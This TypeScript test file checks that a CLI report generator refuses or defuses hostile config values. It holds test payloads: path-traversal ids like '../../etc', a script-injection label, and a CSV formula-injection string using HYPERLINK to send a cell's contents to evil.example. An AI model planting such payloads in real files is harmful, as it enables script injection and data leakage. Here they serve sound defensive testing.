/**
 * Config attacks (issue 8) through the real CLI. Decisions (documented in check-paths.ts):
 * - ids are slugs (`[a-z0-9-]`): `../`, `<script>`, quotes, RTL and zero-width characters are refused
 *   with exit 2 and the key path, so no id can make a file name escape the output folder;
 * - labels (names) may hold any text: they are escaped in HTML, defused in indicators.csv with a
 *   leading `'` when they start with `=`, `+`, `-`, `@` (OWASP), and bounded in length by the schema;
 * - data, quarantine and cache may live outside the project; the quarantine or cache inside the output
 *   folder, the output folder at or above the config folder, or at a source's folder, is exit 2.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { resolveOutDir } from "../../src/app/run.ts";
import { checkOutputPaths } from "../../src/config/check-paths.ts";
import { parseConfig } from "../../src/config/load-config.ts";
import { LagesbildError } from "../../src/core/errors.ts";
import { allFiles, cliProject, excel1252, GENERATED_AT, type CliProject } from "./_cli-project.ts";

const HOSTILE_AREA = `<script>alert("x")</script> ‮evil‬ zero​width 'quoted' "dq"`;
const FORMULA_CATEGORY = `=HYPERLINK("http://evil.example/?"&A1;"Klicka")`;
const LONG = "Å".repeat(100);

const config = (over: { areaName?: string; categoryName?: string; areaId?: string; extra?: string; sourcePath?: string } = {}) => `
kommun: { name: Testby, code: "0001" }
max_rejected_share: 1
${over.extra ?? ""}
areas:
  - { id: ${over.areaId ?? "centrum"}, name: ${JSON.stringify(over.areaName ?? "Centrum")}, population: 5000 }
  - { id: norr, name: ${JSON.stringify(LONG)}, population: 3000 }
categories:
  - { id: stold, name: ${JSON.stringify(over.categoryName ?? "Stöld")}, group: egendom }
  - { id: ran, name: "+46 Rån", group: brott-mot-person }
sources:
  - id: polis
    kind: incidents
    measure: brott
    path: ${over.sourcePath ?? "../data/polis-*.csv"}
    categories: { Stöld: stold, Rån: ran }
    covers: { from: 2024-02, to: 2024-03 }   # DATA is a sparse log (its rows end 2 March): declared complete
suppression: { min_count: 0 }
`;
const DATA = excel1252(["occurred_at;category;area", "2024-03-01;Stöld;Centrum", "2024-03-02;Rån;norr", "2024-02-02;Stöld;Centrum"]);

/** Parses a config text as `loadConfig` does; returns the LagesbildError it throws (null when valid). */
function configError(yamlText: string): LagesbildError | null {
  try {
    parseConfig(yamlText, "/tmp/attack/config/lagesbild.yaml");
    return null;
  } catch (e) {
    if (e instanceof LagesbildError) return e;
    throw e;
  }
}

describe("ids that could escape a folder or inject markup are refused with exit 2 and the key path", () => {
  it.each([
    ["../../etc", "areas[0].id"],
    ["<script>", "areas[0].id"],
    ["a'b", "areas[0].id"],
    ["centrum\u202e", "areas[0].id"],
    ["cen\u200btrum", "areas[0].id"],
    ["x".repeat(65), "areas[0].id"],
  ])("area id %j", (id, key) => {
    const error = configError(config({ areaId: JSON.stringify(id) }));
    expect(error?.exitCode).toBe(2);
    expect(error?.message).toContain(key);
  });

  it("a source id with ../ is refused, so the quarantine file name cannot escape quarantine_dir", () => {
    const error = configError(config().replace("- id: polis", '- id: "../../escaped"'));
    expect(error?.exitCode).toBe(2);
    expect(error?.message).toContain("sources[0].id");
  });

  it("an unknown key is refused with its path", () => {
    const error = configError(config({ extra: "output: { dir: ../reports, evil_key: 1 }" }));
    expect(error?.message).toMatch(/output.*evil_key/);
  });

  it("a label longer than the schema allows is refused with its path", () => {
    expect(configError(config({ areaName: "x".repeat(101) }))?.message).toContain("areas[0].name");
  });

  it("a binary file as config is a config error (exit 2), not a crash", () => {
    const bytes = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)).toString("latin1");
    expect(configError(bytes)?.exitCode).toBe(2);
  });

  it("the CLI reports a refused id as exit 2 with the key path and no stack trace", () => {
    const p = cliProject(config({ areaId: '"../../etc"' }), { "data/polis-1.csv": DATA });
    try {
      const r = p.run(["run", "--month", "2024-03", "--generated-at", GENERATED_AT]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain("areas[0].id");
      expect(r.stderr).not.toMatch(/\n\s+at .+\(.+:\d+:\d+\)/);
    } finally {
      p.cleanup();
    }
  });
});

describe("hostile labels that are accepted render inert and stay inside the output folder", () => {
  let p: CliProject;
  let html: string;
  let csv: string;
  beforeAll(() => {
    p = cliProject(config({ areaName: HOSTILE_AREA, categoryName: FORMULA_CATEGORY }), { "data/polis-1.csv": DATA });
    const r = p.run(["run", "--month", "2024-03", "--generated-at", GENERATED_AT]);
    expect(r.code, r.stderr).toBe(0);
    html = readFileSync(path.join(p.root, "reports/2024-03/index.html"), "utf8");
    csv = readFileSync(path.join(p.root, "reports/2024-03/indicators.csv"), "utf8");
  });
  afterAll(() => p.cleanup());

  it("never writes a live <script> from a label into any HTML file", () => {
    for (const file of allFiles(path.join(p.root, "reports")).filter((f) => f.endsWith(".html") || f.endsWith(".xml"))) {
      expect(readFileSync(file, "utf8"), file).not.toContain('<script>alert("x")');
    }
    expect(html).toContain("&lt;script&gt;");
  });

  it("defuses a formula label in indicators.csv with a leading apostrophe", () => {
    const cells = csv.split("\r\n").flatMap((line) => line.split(";"));
    expect(cells.some((c) => c.startsWith("=") || c.startsWith('"='))).toBe(false);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Klicka"")"`);
    expect(cells).toContain("'+46 Rån");
  });

  it("keeps negative numbers numeric in indicators.csv (only name columns are defused)", () => {
    // Centrum stöld: 1 in March, 1 in February → change 0; norr rån: 1 vs 0. No name column starts with '-.
    expect(csv).not.toMatch(/;'-\d/);
  });

  it("writes only inside the output folder and var/ (no file named after a label anywhere else)", () => {
    const written = allFiles(p.root).map((f) => path.relative(p.root, f).split(path.sep)[0]);
    expect(new Set(written)).toEqual(new Set(["config", "data", "reports", "var"]));
  });
});

describe("output and private folders: what is refused and what is allowed", () => {
  const layout = (extra: string, out?: string, sourcePath?: string) => {
    const cfg = parseConfig(config({ extra, sourcePath }), "/srv/lagesbild/config/lagesbild.yaml");
    return checkOutputPaths(cfg, out ?? resolveOutDir(cfg, undefined, "/"), out === undefined ? "output.dir" : "--out").join("\n");
  };

  it("refuses a quarantine inside the output folder (rejected rows would be published)", () => {
    expect(layout("output: { dir: ../reports }\nquarantine_dir: ../reports/rejected")).toContain("quarantine_dir:");
  });

  it("refuses a cache inside the output folder", () => {
    expect(layout("cache_dir: ../reports")).toContain("cache_dir:");
  });

  it("refuses output.dir equal to the config folder", () => {
    expect(layout("output: { dir: . }")).toContain("output.dir:");
  });

  it("refuses --out at the project root, above the config folder", () => {
    expect(layout("", "/srv/lagesbild")).toContain("--out:");
  });

  it("refuses an output folder inside a ** source folder (the next run would read its own CSV)", () => {
    expect(layout("output: { dir: ../data/reports }", undefined, "../data/**/polis-*.csv")).toContain("sources[0].path");
  });

  it("allows the usual layout and data, quarantine and cache outside the project", () => {
    expect(layout("quarantine_dir: /var/lib/lagesbild/rejected\ncache_dir: ../../../tmp/cache", undefined, "/mnt/export/polis-*.csv")).toBe("");
  });

  it("the CLI refuses a published quarantine with exit 2 before writing anything", () => {
    const p = cliProject(config({ extra: "quarantine_dir: ../reports/rejected" }), { "data/polis-1.csv": DATA });
    try {
      const r = p.run(["run", "--month", "2024-03", "--generated-at", GENERATED_AT]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain("quarantine_dir:");
      expect(allFiles(p.root).some((f) => f.includes(`${path.sep}reports${path.sep}`))).toBe(false);
    } finally {
      p.cleanup();
    }
  });

  it("the CLI runs with the quarantine in an absolute folder outside the project", () => {
    const outside = mkdtempSync(path.join(tmpdir(), "lagesbild-attack-q-"));
    const p = cliProject(config({ extra: `quarantine_dir: ${JSON.stringify(outside)}` }), { "data/polis-1.csv": DATA });
    try {
      const r = p.run(["run", "--month", "2024-03", "--generated-at", GENERATED_AT]);
      expect(r.code, r.stderr).toBe(0);
      expect(readdirSync(outside)).toEqual(["polis.csv"]);
    } finally {
      p.cleanup();
      rmSync(outside, { recursive: true, force: true });
    }
  });
});
